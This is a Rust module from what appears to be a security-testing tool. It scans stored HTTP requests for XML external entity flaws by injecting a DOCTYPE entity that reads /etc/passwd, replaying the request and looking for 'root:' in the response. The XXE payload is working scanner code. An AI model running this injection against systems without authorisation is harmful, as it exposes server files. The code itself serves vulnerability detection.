use crate::error::Result;
use crate::record::RequestRecord;
use crate::replay::Replayer;
use regex::Regex;
use std::sync::LazyLock;

const ENTITY_URL: &str = "file:///etc/passwd";
const ORACLE_MARKER: &[u8] = b"root:";

static ROOT_ELEMENT: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"<([A-Za-z_][A-Za-z0-9_.:-]*)").unwrap());
static TEXT_NODE: LazyLock<Regex> = LazyLock::new(|| Regex::new(r">[^<>]*[^<>\s][^<>]*<").unwrap());

pub enum ScanOutcome {
    NoXml,
    Vulnerable(Vec<u8>),
    NotVulnerable(Vec<u8>),
}

impl ScanOutcome {
    /// The operator-facing scan report.
    pub fn render(&self) -> Vec<u8> {
        match self {
            ScanOutcome::NoXml => b"No XML content in request\n".to_vec(),
            ScanOutcome::Vulnerable(body) => format!(
                "Request vulnerable, response:\n{}\n",
                String::from_utf8_lossy(body)
            )
            .into_bytes(),
            ScanOutcome::NotVulnerable(body) => format!(
                "Request is not vulnerable, response:\n{}\n",
                String::from_utf8_lossy(body)
            )
            .into_bytes(),
        }
    }
}

/// Probes a stored request for XXE: injects an external entity into the XML
/// body, submits it, and looks for the oracle marker in the response. A
/// read-only probe; nothing is captured.
pub async fn scan(record: &RequestRecord, replayer: &Replayer) -> Result<ScanOutcome> {
    let Some(mutated) = inject_entity(record) else {
        return Ok(ScanOutcome::NoXml);
    };

    let mut req = record.to_wire();
    req.body = mutated;
    let resp = replayer.send(record, req).await?;

    if contains_marker(&resp.body) {
        Ok(ScanOutcome::Vulnerable(resp.body))
    } else {
        Ok(ScanOutcome::NotVulnerable(resp.body))
    }
}

fn is_xml(record: &RequestRecord, body: &str) -> bool {
    let declared = record
        .headers
        .get("Content-Type")
        .map(|values| values.iter().any(|v| v.to_ascii_lowercase().contains("xml")))
        .unwrap_or(false);
    declared || body.trim_start().starts_with("<?xml")
}

/// Builds the mutated XML body: a DOCTYPE declaring the external entity,
/// plus an entity reference in place of the first text node (or as a new
/// child of the root when there is none). `None` when the request has no
/// XML to mutate.
fn inject_entity(record: &RequestRecord) -> Option<Vec<u8>> {
    let body = record.body.as_ref()?;
    let body = String::from_utf8_lossy(body.as_bytes()).into_owned();
    if !is_xml(record, &body) {
        return None;
    }

    let root = ROOT_ELEMENT.captures(&body)?;
    let root_name = root.get(1)?.as_str().to_string();
    let root_start = root.get(0)?.start();

    let doctype =
        format!("<!DOCTYPE {root_name} [<!ENTITY xxe SYSTEM \"{ENTITY_URL}\">]>");
    let insert_at = match body.find("?>") {
        Some(end) if end < root_start => end + 2,
        _ => root_start,
    };
    let mut mutated = String::with_capacity(body.len() + doctype.len() + 8);
    mutated.push_str(&body[..insert_at]);
    mutated.push_str(&doctype);
    mutated.push_str(&body[insert_at..]);

    let document_start = insert_at + doctype.len();
    if let Some(found) = TEXT_NODE.find(&mutated[document_start..]) {
        let start = document_start + found.start();
        let end = document_start + found.end();
        mutated.replace_range(start..end, ">&xxe;<");
    } else if let Some(close) = mutated[document_start..].find('>') {
        let close = document_start + close;
        if mutated[..close].ends_with('/') {
            mutated.replace_range(close - 1..close + 1, &format!(">&xxe;</{root_name}>"));
        } else {
            mutated.insert_str(close + 1, "&xxe;");
        }
    }

    Some(mutated.into_bytes())
}

fn contains_marker(body: &[u8]) -> bool {
    body.windows(ORACLE_MARKER.len())
        .any(|window| window == ORACLE_MARKER)
}
